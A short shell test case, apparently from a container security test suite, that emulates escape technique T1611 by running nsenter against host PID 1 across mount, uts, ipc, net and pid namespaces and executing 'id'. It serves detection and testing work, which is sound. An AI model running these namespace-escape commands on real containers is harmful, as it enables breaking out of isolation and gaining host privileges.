#!/bin/sh
# case: T1611-nsenter-by-tool-each
# technique: Escape: nsenter -t 1 with single namespaces
# source: redcanaryco/atomic-red-team T1611-1; peirates
# needs: nsenter
# expect: escape priv
# where: container
# image: busybox debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need nsenter
(nsenter -t 1 -m -- id; nsenter --target 1 --uts --ipc --net --pid -- sh -c id; nsenter --mount=/proc/1/ns/mnt true) >/dev/null 2>&1; true
exit 0
